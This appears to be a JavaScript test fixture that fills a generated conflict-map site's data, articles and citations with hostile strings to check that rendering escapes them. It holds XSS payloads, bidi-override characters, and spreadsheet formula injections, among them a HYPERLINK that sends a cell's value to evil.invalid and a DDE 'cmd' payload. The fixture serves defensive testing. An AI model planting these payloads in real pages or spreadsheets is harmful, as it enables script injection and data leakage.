// A record made of words that break pages: markup, quotes, controls of direction,
// marks without end, formulas of spreadsheets, and lines that nothing breaks.

import { article } from "./made.mjs";

/** Stands at the end of a word that turns what follows, so that a test knows where the word ends. */
export const END = "¦";

/** Sets a mark that the tests look for, should it ever run. */
const RUN = "top.ran=1;alert(1)";

export const WORDS = {
  script: `"><script>${RUN}</script>`,
  ends: `</script></style></title></textarea></svg><script>${RUN}</script>`,
  handler: `<img src=x onerror="${RUN}"><svg onload='${RUN}'>`,
  quotes: `' onmouseover='${RUN}' x="y" \` \\`,
  address: `javascript:${RUN}`,
  entity: "&amp;&lt;b&gt;&#60;script&#62; %3Cscript%3E {{.}} ${1+1} ]]> <!--",
  override: `\u202egnidaer backwards${END}`,
  leftToRight: `\u202dالفرات نهر${END}`,
  nested: `\u2067\u202b\u2066\u2068turned over${END}`,
  closing: `\u2069\u2069\u202c\u202cclosed too often${END}`,
  arabic: "اسم عربي 12",
  unseen: `a\u200b\u200c\u200d\u2060\ufeffb\u00ad${"c\u0301".repeat(3)}d${"\u0336\u0489\u0335\u20d2".repeat(5)}`,
  formula: `=HYPERLINK("http://evil.invalid/?"&A1,"see")`,
  plus: "+1+cmd|' /C calc'!A0",
  minus: "-2+3",
  at: "@SUM(1+1), \"two\"\rthree".replace("\r", " "),
};

/** 10,000 characters that nothing breaks, in either script. */
export const LONG = "Loremipsum".repeat(1_000);
// Letters that join, or of which each is kerned with the next ("WWW"), are the browser's own trouble: it shapes the rest
// of the word anew at every line, a second or two of it with 10,000 of them in our font, a tenth with 3,000.
export const LONG_WORDS = { one: "One word", two: "Two words", long: LONG, four: "كلمات أربع", arabic: "م".repeat(3_000), six: "Six words" };

/** A word as Markdown that says it as it is. */
const plain = word => word.replace(/[!-/:-@[-`{-~]/g, "\\$&");

const COLOURS = ["#a1292c", "#2046a5", "#408c66", "#201e1d", "#ebc839", "#8a5a9e", "#5c7d2b", "#c46a1b", "#2f8f9d", "#7a4b2a", "#b04a86", "#4a4a8a", "#9aa02c", "#d98aa0", "#3a6b4a", "#6d6d6d"];

/** A site in which every word of the record is one of `words`, each thing another. */
export function hostileContent(words) {
  const names = Object.keys(words), at = i => words[names[i % names.length]];
  const files = {
    "site.yaml": {
      title: at(0), standfirst: names.slice(1).map((_, i) => at(i)).join(" "), languages: ["en", "ar"], licence: at(1), publisher: at(2), edition: at(3), period: "2014/2015",
      start: "2014-09-01", translations: { ar: { title: at(1), standfirst: at(2), edition: at(3), publisher: at(4) } },
      basemap: { name: at(0), url: "https://tiles.invalid/{z}/{x}/{y}.png", max_zoom: 9, attribution: at(4), attribution_url: "https://tiles.invalid/'onclick='top.ran=1" },
    },
    "actors.yaml": names.map((name, i) => ({ id: `a-${name.toLowerCase()}`, name: at(i), ar: at(i + 1), code: `A${String.fromCharCode(65 + i)}`, colour: COLOURS[i], side: at(i + 2), aliases: [`alias ${at(i + 3)}`], note: at(i) })),
    "sources.yaml": names.map((name, i) => ({ id: `s-${name.toLowerCase()}`, name: at(i), url: "https://example.org/", leaning: at(i), reliability: "B", note: at(i) })),
    "places.yaml": names.map((name, i) => ({ id: `p-${name.toLowerCase()}`, name: at(i), names: { ar: at(i + 1), en: [at(i + 2)] }, at: [38.6 + i * 0.12, 35.95 - i * 0.05], kind: "town", country: "SY", admin1: at(i), precision_km: 2, source: at(i) })),
    "static/picture.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><rect width="40" height="20" fill="#888"/></svg>',
  };
  names.forEach((name, i) => {
    const id = name.toLowerCase(), other = names[(i + 1) % names.length].toLowerCase();
    const cite = { publisher: `s-${id}`, title: at(i), url: `https://example.org/'onclick='top.ran=1'/${id}?a=1&b=)`, archive: "https://example.com/\\`${1}", published: "2014-06", grade: "B2" };
    files[`articles/${id}.md`] = article({
      title: at(i), date: `2014-06-${String(i + 10)}`, description: at(i), author: at(i), series: at(i), tags: [at(i), at(i + 1)], translations: { ar: { title: at(i + 1), description: at(i + 1) } },
      sources: [cite, { by: at(i) }],
      events: [{
        id: `e-${id}`, when: `2014-0${1 + (i % 9)}-1${i % 9}`, title: at(i), summary: at(i), place: `p-${id}`, kind: "control-change", actors: [`a-${id}`, `a-${other}`], confidence: "probable",
        translations: { ar: { title: at(i + 1), summary: at(i + 1) } }, control: { place: `p-${id}`, holder: `a-${id}`, status: "contested", with: [`a-${other}`] },
        casualties: { civilians: { low: 1, best: 2, high: 3, by: at(i) } }, claims: [{ says: at(i), by: at(i), url: cite.url, grade: "C3" }, { says: at(i + 1), by: `s-${id}` }], sources: [cite, { by: at(i) }],
      }],
    }, `Words before ${plain(at(i))}\n\n![${plain(at(i))}](../picture.svg)\n\n## ${plain(at(i))}\n\n| a | b |\n|---|---|\n| ${plain(at(i))} | x |\n`);
  });
  files["articles/walk.md"] = article({
    title: at(0), date: "2015-02-01", description: at(1), story: true, translations: { ar: { title: at(1), description: at(2) } },
    steps: names.slice(0, 8).map((name, i) => ({ at: `Step ${"abcdefgh"[i]} ${at(i)}`.replace(/\s+/g, " ").slice(0, 200), on: `2014-0${1 + i}-20`, event: `e-${name.toLowerCase()}` })),
  }, names.slice(0, 8).map((_, i) => `Step ${"abcdefgh"[i]} ${plain(at(i))} follows.`).join("\n\n"));
  return files;
}
